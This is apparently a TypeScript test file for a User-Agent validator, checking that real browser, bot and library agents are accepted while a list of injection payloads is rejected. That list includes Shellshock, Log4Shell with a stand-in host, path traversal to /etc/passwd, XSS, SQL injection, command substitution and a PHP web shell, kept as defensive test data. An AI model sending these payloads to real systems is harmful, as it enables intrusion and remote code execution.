// The User-Agent grammar: clients' names (browsers, bots, HTTP libraries, apps) parse; payloads in
// place of an agent or appended to one do not, and are then read like any other header.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isClientName } from "./user-agent.ts";

const CLIENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
  "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240605.024) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "curl/8.5.0",
  "python-requests/2.31.0",
  "Go-http-client/1.1",
  "okhttp/4.12.0",
  "Apache-HttpClient/4.5.14 (Java/17.0.11)",
  "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
  "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)",
  "Wget/1.21.4",
  "Prometheus/2.53.0",
  "kube-probe/1.30",
];

const HOSTILE = [
  "() { :; }; /bin/bash -c id",
  "Mozilla/5.0 ../../../../etc/passwd",
  "{{7*7}}",
  "${jndi:ldap://x.example/a}",
  "Mozilla/5.0 <script>alert(1)</script>",
  "' or 1=1--",
  "Mozilla/5.0 (X11; Linux) `id`",
  "Mozilla/5.0 (Windows NT 10.0; $(id))",
  "<?php system($_GET['c']); ?>",
  "/etc/passwd",
  "",
];

describe("User-Agent grammar (RFC 9110 §10.1.5)", () => {
  it.each(CLIENTS)("a client's name: %s", (agent) => expect(isClientName(agent)).toBe(true));
  it.each(HOSTILE)("not a client's name: %s", (agent) => expect(isClientName(agent)).toBe(false));

  it("products and plain comments in any order and number parse", () => {
    const name = fc.stringMatching(/^[A-Za-z][A-Za-z0-9_-]{0,11}$/);
    const version = fc.stringMatching(/^[0-9]{1,4}(?:\.[0-9]{1,4}){0,3}[a-z]?$/);
    const product = fc.tuple(name, fc.option(version)).map(([n, v]) => (v ? `${n}/${v}` : n));
    const comment = fc
      .array(fc.stringMatching(/^[A-Za-z0-9 _:+-]{1,12}(?:\.[A-Za-z0-9]{1,4})?$/), { minLength: 1, maxLength: 4 })
      .map((parts) => `(${parts.join("; ")})`);
    fc.assert(
      fc.property(fc.tuple(product, fc.array(fc.oneof(product, comment), { maxLength: 6 })), ([first, rest]) => {
        expect(isClientName([first, ...rest].join(" "))).toBe(true);
      }),
    );
  });

  it("an agent with characters an interpreter gives meaning to is no client's name", () => {
    fc.assert(
      fc.property(fc.constantFrom(...CLIENTS), fc.constantFrom(..."<>'\"`$|&{}[]\\%?"), (agent, c) => {
        expect(isClientName(`${agent} x${c}y`)).toBe(false);
      }),
    );
  });

  it("a value past the cap, or nested past a few comments deep, is no client's name", () => {
    expect(isClientName(`Mozilla/5.0 (${"a".repeat(1100)})`)).toBe(false);
    expect(isClientName("Mozilla/5.0 ((((a))))")).toBe(false);
    expect(isClientName("Mozilla/5.0 (a (b) c)")).toBe(true);
  });
});
